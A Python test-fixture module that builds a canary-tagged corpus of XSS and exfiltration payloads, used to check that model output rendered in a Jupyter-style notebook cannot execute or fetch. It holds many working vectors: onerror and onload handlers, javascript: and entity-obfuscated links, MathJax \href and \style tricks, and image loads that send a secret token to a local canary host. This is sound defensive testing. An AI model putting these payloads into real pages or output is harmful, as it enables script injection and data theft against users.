"""The hostile-output corpus of issue 8: model text that must never run, fetch or navigate once rendered.

Every payload has an id (lower-case letters, digits and dashes, so it is safe inside a URL and a JS string) and
a class:

- ``attacker``: the findings of the report (the regex escaper of views/markdown.py misses them);
- ``classic``: the usual XSS and exfiltration vectors in raw HTML and Markdown;
- ``math``: TeX that MathJax could turn into a live link, a style or a fetch;
- ``context``: text aimed at one place around the answer (tool-call names, error boxes, source titles);
- ``generated``: HTML vectors wrapped in Markdown constructs by a seeded, deterministic generator.

Scripts call ``__qwenCanary('<id>')`` (and some ``alert('qc:<id>')``); every URL that would be fetched
contains ``qwen-canary`` and the id: absolute ones point at the canary server (``canary``, an origin such as
``http://127.0.0.1:8123``), root-relative ones (``/qwen-canary/<id>``) and notebook-relative ones
(``files/qwen-canary/<id>``) would hit the Jupyter server. ``corpus(canary)`` is the whole list.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass, field

TOKEN = "qwen-canary"
CLASSES = ("attacker", "classic", "math", "context", "generated")
GENERATED = 200
SEED = 8  # issue 8


@dataclass(frozen=True)
class Payload:
    id: str
    cls: str
    text: str
    tags: frozenset[str] = field(default_factory=frozenset)  # "script", "fetch", "link", "long"

    @property
    def script(self) -> bool:
        return "script" in self.tags

    @property
    def fetch(self) -> bool:
        return "fetch" in self.tags


def js(pid: str) -> str:
    return f"__qwenCanary('{pid}')"


def _fill(template: str, pid: str, canary: str) -> str:
    """@JS@: the canary call; @AL@: an alert; @C@: an absolute canary URL; @R@: a root-relative one; @ID@."""
    return (template.replace("@JS@", js(pid)).replace("@AL@", f"alert('qc:{pid}')")
            .replace("@C@", f"{canary}/{TOKEN}/{pid}").replace("@R@", f"/{TOKEN}/{pid}").replace("@ID@", pid))


def _tags(template: str, extra: str = "") -> frozenset[str]:
    tags = set(extra.split())
    if "@JS@" in template or "@AL@" in template:
        tags.add("script")
    if "@C@" in template or "@R@" in template or TOKEN in template:
        tags.add("fetch")
    return frozenset(tags)


# -- (1) the attacker's findings --------------------------------------------------------------------------------

ATTACKER = [
    ("a-unclosed-fence-midline", "Here is some code ``` that never closes <img src=x onerror=@JS@> and more"),
    ("a-unclosed-fence-midline-nl", "Look: ```python\n\n<img src=x onerror=@JS@>\n"),
    ("a-escaped-backtick", "Escaped \\`<img src=x onerror=@JS@>` tick"),
    ("a-fence-info-backtick", "```a`b\n<img src=x onerror=@JS@>\n\n```\n"),
    ("a-indented-fence", "Code:\n\n    ```\n    still code\n\n<img src=x onerror=@JS@>\n"),
    ("a-js-escaped-colon", "[click me](javascript\\:@JS@)"),
    ("a-refdef-in-list", "- [r]: javascript:@JS@\n\nSee [the docs][r]."),
    ("a-refdef-in-list-2", "1. item\n\n   [r]: javascript:@JS@\n\n[the docs][r]"),
    ("a-refdef-escaped-colon", "[r]: javascript\\:@JS@\n\nSee [the docs][r]."),
    ("a-refdef-angle", "[r]: <javascript\\:@JS@>\n\n[the docs][r]"),
    ("a-error-blank-line", "The request failed.\n\n[retry](javascript:@JS@)"),
    ("a-error-blank-line-html", "The request failed.\n\n<img src=x onerror=@JS@>"),
    ("a-entity-scheme", "[x](jav&#x61;script:@JS@)"),
    ("a-entity-scheme-ref", "[r]: jav&#x61;script:@JS@\n\n[x][r]"),
    ("a-img-remote-secret", "![t](@C@.png?q=secret-token-from-the-notebook)"),
    ("a-img-relative-files", "![t](files/@ID@/" + TOKEN + ".png)"),
    ("a-img-relative-dir", "![t](" + TOKEN + "/@ID@.png)"),
    ("a-img-api-contents", "![t](/api/contents?" + TOKEN + "=@ID@)"),
    ("a-img-root", "![t](@R@.png)"),
    ("a-img-ref", "![t][img]\n\n[img]: @C@.png"),
    ("a-img-autolink-secret", "![](<@C@.png?secret=1>)"),
]

# -- (2) classic vectors ----------------------------------------------------------------------------------------

CLASSIC = [
    ("c-script", "<script>@JS@</script>"),
    ("c-script-mixed-case", "<ScRiPt>@JS@</sCrIpT>"),
    ("c-script-src", "<script src=@C@.js></script>"),
    ("c-script-inline-md", "Before <script>@JS@</script> after"),
    ("c-img-onerror", "<img src=x onerror=@JS@>"),
    ("c-img-onerror-mixed", "<IMG SRC=x OnErRoR=@JS@>"),
    ("c-img-onerror-quoted", "<img src=\"x\" onerror=\"@JS@\">"),
    ("c-img-onerror-slash", "<img/src=x/onerror=@JS@>"),
    ("c-img-onload", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=\" onload=@JS@>"),
    ("c-img-src-remote", "<img src=@C@.png>"),
    ("c-img-srcset", "<img srcset=\"@C@.png 1x\">"),
    ("c-picture-source", "<picture><source srcset=\"@C@.png\"><img alt=p></picture>"),
    ("c-svg-onload", "<svg onload=@JS@>"),
    ("c-svg-script", "<svg><script>@JS@</script></svg>"),
    ("c-svg-animate", "<svg><animate onbegin=@JS@ attributeName=x dur=1s></animate></svg>"),
    ("c-svg-a-href", "<svg width=200 height=30><a href=\"javascript:@JS@\"><text x=5 y=20>svg link</text></a></svg>"),
    ("c-svg-a-xlink", "<svg width=200 height=30><a xlink:href=\"javascript:@JS@\"><text x=5 y=20>xlink</text></a></svg>"),
    ("c-svg-use", "<svg><use href=\"@C@.svg#x\"></use></svg>"),
    ("c-svg-image", "<svg><image href=\"@C@.png\" width=10 height=10></image></svg>"),
    ("c-svg-foreign", "<svg><foreignObject><img src=x onerror=@JS@></foreignObject></svg>"),
    ("c-details-ontoggle", "<details open ontoggle=@JS@><summary>s</summary>d</details>"),
    ("c-body-onload", "<body onload=@JS@>"),
    ("c-iframe-onload", "<iframe onload=@JS@></iframe>"),
    ("c-iframe-js", "<iframe src=\"javascript:@AL@\"></iframe>"),
    ("c-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.@JS@</script>\"></iframe>"),
    ("c-iframe-srcdoc-entity", "<iframe srcdoc=\"&lt;img src=x onerror=parent.@JS@&gt;\"></iframe>"),
    ("c-iframe-data", "<iframe src=\"data:text/html,<script>@AL@</script>\"></iframe>"),
    ("c-iframe-remote", "<iframe src=\"@C@.html\"></iframe>"),
    ("c-a-href-js", "<a href=\"javascript:@JS@\">raw link</a>"),
    ("c-a-href-js-self", "<a href=\"javascript:@JS@\" target=_self>raw self link</a>"),
    ("c-a-href-data", "<a href=\"data:text/html,<script>@AL@</script>\">data link</a>"),
    ("c-a-href-vbscript", "<a href=\"vbscript:msgbox('@ID@')\">vb link</a>"),
    ("c-a-ping", "<a href=\"https://example.com/\" ping=\"@C@-ping\">ping link</a>"),
    ("c-a-onmouseover", "<a href=\"https://example.com/\" onmouseover=@JS@ onclick=@JS@>hover link</a>"),
    ("c-div-overlay", "<div onmouseover=@JS@ onclick=@JS@ style=\"position:fixed;inset:0;z-index:99999\">overlay</div>"),
    ("c-md-js", "[plain](javascript:@JS@)"),
    ("c-md-js-upper", "[upper](JaVaScRiPt:@JS@)"),
    ("c-md-js-angle", "[angle](<javascript:@JS@>)"),
    ("c-md-js-space", "[space](  javascript:@JS@ )"),
    ("c-md-js-title", "[title](javascript:@JS@ \"t\")"),
    ("c-md-data", "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgncWM6Yy1tZC1kYXRhJyk8L3NjcmlwdD4=)"),
    ("c-md-vbscript", "[vb](vbscript:msgbox('@ID@'))"),
    ("c-md-autolink-js", "<javascript:@JS@>"),
    ("c-md-autolink-js-upper", "<JAVASCRIPT:@JS@>"),
    ("c-md-ref-js", "[x][r]\n\n[r]: javascript:@JS@"),
    ("c-md-ref-js-title", "[x][r]\n\n[r]: javascript:@JS@ 'title'"),
    ("c-md-tab-entity", "[tab](jav&#x09;ascript:@JS@)"),
    ("c-md-nl-entity", "[nl](jav&#x0A;ascript:@JS@)"),
    ("c-md-dec-entity", "[dec](&#106;avascript:@JS@)"),
    ("c-md-colon-entity", "[colon](javascript&colon;@JS@)"),
    ("c-html-tab-entity", "<a href=\"jav&#x09;ascript:@JS@\">tab entity</a>"),
    ("c-html-nl-entity", "<a href=\"jav&#x0A;ascript:@JS@\">nl entity</a>"),
    ("c-html-dec-entity", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;@JS@\">dec</a>"),
    ("c-html-leading-space", "<a href=\" &#14; javascript:@JS@\">leading</a>"),
    ("c-form-action-js", "<form action=\"javascript:@JS@\"><button>submit</button></form>"),
    ("c-form-action-remote", "<form action=\"@C@\"><input type=submit value=send></form>"),
    ("c-button-formaction", "<form><button formaction=\"javascript:@JS@\">fa</button></form>"),
    ("c-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=@C@\">"),
    ("c-meta-refresh-js", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:@JS@\">"),
    ("c-base-href", "<base href=\"@C@/\">"),
    ("c-link-stylesheet", "<link rel=stylesheet href=\"@C@.css\">"),
    ("c-link-prefetch", "<link rel=prefetch href=\"@C@-prefetch\">"),
    ("c-style-import", "<style>@import url(\"@C@.css\");</style>"),
    ("c-style-bg", "<style>.jp-OutputArea{background:url(\"@C@.png\")}</style>"),
    ("c-style-attr", "<div style=\"background-image:url('@C@.png');width:20px;height:20px\">st</div>"),
    ("c-style-font", "<style>@font-face{font-family:q;src:url(\"@C@.woff\")}body{font-family:q}</style>"),
    ("c-object", "<object data=\"@C@.svg\"></object>"),
    ("c-object-js", "<object data=\"javascript:@JS@\"></object>"),
    ("c-embed", "<embed src=\"@C@.svg\">"),
    ("c-video-poster", "<video poster=\"@C@.png\"></video>"),
    ("c-video-source-onerror", "<video><source onerror=@JS@></video>"),
    ("c-audio-src", "<audio src=\"@C@.mp3\" autoplay></audio>"),
    ("c-input-image", "<input type=image src=\"@C@.png\">"),
    ("c-input-autofocus", "<input autofocus onfocus=@JS@>"),
    ("c-marquee", "<marquee onstart=@JS@>m</marquee>"),
    ("c-math-maction", "<math><maction actiontype=statusline xlink:href=\"javascript:@JS@\">m</maction></math>"),
    ("c-math-href", "<math href=\"javascript:@JS@\"><mi>x</mi></math>"),
    ("c-math-mtext-img", "<math><mtext><img src=x onerror=@JS@></mtext></math>"),
    ("c-comment", "<!-- c --><img src=x onerror=@JS@><!-- c -->"),
    ("c-comment-trick", "<!--><img src=x onerror=@JS@>-->"),
    ("c-comment-dashes", "<!-- --!><img src=x onerror=@JS@> -->"),
    ("c-cdata", "<![CDATA[><img src=x onerror=@JS@>]]>"),
    ("c-pi", "<?x ?><img src=x onerror=@JS@>"),
    ("c-noscript", "<noscript><p title=\"</noscript><img src=x onerror=@JS@>\"></noscript>"),
    ("c-template", "<template><img src=x onerror=@JS@></template><img src=x onerror=@JS@>"),
    ("c-table-img", "<table><tr><td><img src=x onerror=@JS@></td></tr></table>"),
    ("c-md-img-onerror-title", "![x](x \"\\\"onerror=@JS@ \")"),
    ("c-md-img-remote", "![remote](@C@.png)"),
    ("c-md-img-remote-title", "![remote](@C@.png \"t\")"),
    ("c-md-img-protocol-relative", "![pr](//127.0.0.1:1/" + TOKEN + "/@ID@.png)"),
    ("c-md-link-in-img-alt", "![<img src=x onerror=@JS@>](x)"),
]

# -- (3) math -----------------------------------------------------------------------------------------------------

MATH = [
    ("m-dollar-href", "$\\href{javascript:@JS@}{x}$"),
    ("m-paren-href", "\\(\\href{javascript:@JS@}{x}\\)"),
    ("m-bracket-href", "\\[\\href{javascript:@JS@}{x}\\]"),
    ("m-dd-href", "$$\\href{javascript:@JS@}{x}$$"),
    ("m-href-upper", "\\(\\href{JaVaScRiPt:@JS@}{y}\\)"),
    ("m-href-data", "\\(\\href{data:text/html,<script>@AL@</script>}{d}\\)"),
    ("m-href-nested", "\\[\\begin{array}{c}\\href{javascript:@JS@}{z}\\end{array}\\]"),
    ("m-unicode-img", "$$\\unicode{<img src=x onerror=@JS@>}$$"),
    ("m-unicode-font", "\\(\\unicode[some font; src:url(@C@.woff)]{x41}\\)"),
    ("m-unicode-font-bg", "\\(\\unicode[x; background:url(@C@.png)]{x41}\\)"),
    ("m-class", "\\(\\class{x\" onmouseover=\"@JS@}{c}\\)"),
    ("m-style-url", "\\(\\style{background-image:url('@C@.png')}{s}\\)"),
    ("m-style-dollar", "$\\style{background:url(@C@.png)}{s}$"),
    ("m-cssid", "\\(\\cssId{q\" onclick=\"@JS@}{i}\\)"),
    ("m-require-html", "\\[\\require{html}\\href{javascript:@JS@}{r}\\]"),
    ("m-texttip", "\\(\\require{action}\\texttip{t}{<img src=x onerror=@JS@>}\\)"),
    ("m-mmltoken", "$\\mmlToken{mi}[href=\"javascript:@JS@\"]{m}$"),
    ("m-href-remote-img", "\\(\\href{@C@}{\\style{background:url(@C@.png)}{h}}\\)"),
    ("m-lt-breakout", "\\( x </span><img src=x onerror=@JS@> \\)"),
    ("m-dollar-breakout", "$x</p><img src=x onerror=@JS@>$"),
]

# -- context: text aimed at one place around the answer -----------------------------------------------------------

CONTEXT = [
    ("x-tool-backtick", "f` <img src=x onerror=@JS@> `g"),
    ("x-tool-blank", "f\n\n<img src=x onerror=@JS@>"),
    ("x-tool-fence", "f\n```\n\n<img src=x onerror=@JS@>\n```"),
    ("x-title-bracket", "title](javascript\\:@JS@) [more"),
    ("x-title-img", "title ![i](@C@.png) more"),
    ("x-title-blank", "title\n\n<img src=x onerror=@JS@>"),
    ("x-error-div-close", "bad</div><img src=x onerror=@JS@><div>"),
    ("x-error-md-link", "bad\n\n\n[link](javascript:@JS@) and ![i](@C@.png)"),
]

# -- (4) generated mixes ------------------------------------------------------------------------------------------

VECTORS = [
    "<img src=x onerror=@JS@>",
    "<svg onload=@JS@>",
    "<details open ontoggle=@JS@>d</details>",
    "<iframe srcdoc=\"<script>parent.@JS@</script>\"></iframe>",
    "<img src=\"@C@.png\">",
    "<a href=\"javascript:@JS@\">a</a>",
    "[l](javascript:@JS@)",
    "[l](javascript\\:@JS@)",
    "[l](jav&#x61;script:@JS@)",
    "![i](@C@.png)",
    "![i](@R@.png)",
    "<javascript:@JS@>",
    "<style>@import \"@C@.css\";</style>",
    "<script>@JS@</script>",
    "<input autofocus onfocus=@JS@>",
    "<div style=\"background:url(@C@.png)\">s</div>",
    "\\(\\href{javascript:@JS@}{m}\\)",
    "$\\href{javascript:@JS@}{m}$",
]

FILLER = ("Qwen explains the result in plain words, one sentence after another, so that this paragraph is long "
          "enough for the cell view to seal it as a finished block before the next one streams in. ")


def _wrappers() -> list[tuple[str, object]]:
    """Markdown constructs around a vector v (each a name and a function)."""
    return [
        ("plain", lambda v: v),
        ("inline-code-before", lambda v: "`code` " + v),
        ("inline-code-around", lambda v: "`" + v + "`"),
        ("inline-code-unclosed", lambda v: "``unclosed " + v),
        ("double-backtick", lambda v: "`` ` `` " + v),
        ("fence", lambda v: "```\n" + v + "\n```"),
        ("fence-unclosed", lambda v: "```\ncode\n" + v),
        ("fence-after", lambda v: "```py\nx = 1\n```\n" + v),
        ("fence-midline", lambda v: "text ``` " + v),
        ("fence-info-tick", lambda v: "```a`b\n" + v),
        ("tilde", lambda v: "~~~\n" + v + "\n~~~"),
        ("tilde-unclosed", lambda v: "~~~\n" + v),
        ("tilde-mixed", lambda v: "~~~\n```\n~~~\n" + v),
        ("fence-long", lambda v: "````\n```\n````\n" + v),
        ("fence-indented-close", lambda v: "```\nx\n    ```\n" + v + "\n```"),
        ("indented", lambda v: "    " + v),
        ("indented-fence", lambda v: "    ```\n\n" + v),
        ("blockquote", lambda v: "> " + v),
        ("blockquote-fence", lambda v: "> ```\n" + v),
        ("list", lambda v: "- " + v),
        ("list-ordered", lambda v: "1. " + v),
        ("list-nested", lambda v: "- a\n\n  " + v),
        ("table", lambda v: "| a | b |\n|---|---|\n| " + v + " | x |"),
        ("table-pipe", lambda v: "| a |\n|---|\n| `|` " + v + " |"),
        ("link-text", lambda v: "[" + v + "](https://example.com/)"),
        ("emphasis", lambda v: "*" + v + "*"),
        ("strong", lambda v: "**" + v + "**"),
        ("underscore", lambda v: "_" + v + "_"),
        ("heading", lambda v: "# " + v),
        ("setext", lambda v: "Title\n===\n" + v),
        ("html-div", lambda v: "<div>\n" + v + "\n</div>"),
        ("html-div-blank", lambda v: "<div>\n\n" + v + "\n\n</div>"),
        ("html-details", lambda v: "<details><summary>s</summary>\n\n" + v + "\n\n</details>"),
        ("html-comment", lambda v: "<!--\n\n-->" + v),
        ("blank-before", lambda v: "intro\n\n" + v),
        ("blank-after", lambda v: v + "\n\nend"),
        ("no-blank", lambda v: "intro\n" + v + "\nend"),
        ("math-before", lambda v: "$x$ " + v),
        ("math-paren-before", lambda v: "\\(x\\) " + v),
        ("math-unclosed", lambda v: "$$ " + v),
        ("math-paren-unclosed", lambda v: "\\( " + v),
        ("dollar-between", lambda v: "$5 and " + v + " $6"),
        ("backslash", lambda v: "\\" + v),
        ("escaped-lt", lambda v: "\\<" + v),
        ("entity-lt", lambda v: "&lt;b&gt; " + v),
        ("crlf", lambda v: "a\r\n\r\n" + v),
        ("nbsp-indent", lambda v: "\u00a0\u00a0\u00a0\u00a0" + v),
        ("tab-indent", lambda v: "\t" + v),
        ("long-para", lambda v: FILLER + FILLER + "\n\n" + v),
        ("long-fence", lambda v: "```\n" + "print('x')\n" * 190 + v + "\n```\n\n" + v),
    ]


def generated(canary: str, count: int = GENERATED, seed: int = SEED) -> list[Payload]:
    """Vectors wrapped in one to three Markdown constructs, chosen by a seeded generator (same list every run)."""
    rng = random.Random(seed)
    wrappers = _wrappers()
    out: list[Payload] = []
    for number in range(count):
        vector = VECTORS[number % len(VECTORS)] if number < len(VECTORS) * 2 else rng.choice(VECTORS)
        depth = 1 if number < len(wrappers) else rng.choice((1, 2, 2, 3))
        chosen = [wrappers[number]] if number < len(wrappers) else rng.sample(wrappers, depth)
        names = [name for name, _ in chosen]
        if "long-fence" in names and number >= len(wrappers):  # keep the very long ones few
            chosen = [w for w in chosen if w[0] != "long-fence"] or [wrappers[0]]
            names = [name for name, _ in chosen]
        text = vector
        for _, wrap in chosen:
            text = wrap(text)  # type: ignore[operator]
        pid = f"g{number:03d}-" + "-".join(names)
        pid = re.sub(r"[^a-z0-9-]", "-", pid)[:60]
        extra = "long" if any(n.startswith("long") for n in names) else ""
        out.append(Payload(pid, "generated", _fill(text, pid, canary), _tags(text, extra)))
    return out


def corpus(canary: str = "http://127.0.0.1:9") -> list[Payload]:
    """All payloads, in a fixed order, with URLs pointing at `canary` (an origin, no trailing slash)."""
    out: list[Payload] = []
    for cls, table in (("attacker", ATTACKER), ("classic", CLASSIC), ("math", MATH), ("context", CONTEXT)):
        out += [Payload(pid, cls, _fill(text, pid, canary), _tags(text)) for pid, text in table]
    out += generated(canary)
    return out


def by_class(payloads: list[Payload]) -> dict[str, int]:
    counts = dict.fromkeys(CLASSES, 0)
    for payload in payloads:
        counts[payload.cls] += 1
    return counts


def ids_in(text: str, payloads: list[Payload]) -> set[str]:
    """Payload ids mentioned in a URL, a canary call or a dialog message (longest match wins)."""
    found = {p.id for p in payloads if p.id in text}
    return {i for i in found if not any(j != i and i in j for j in found)}
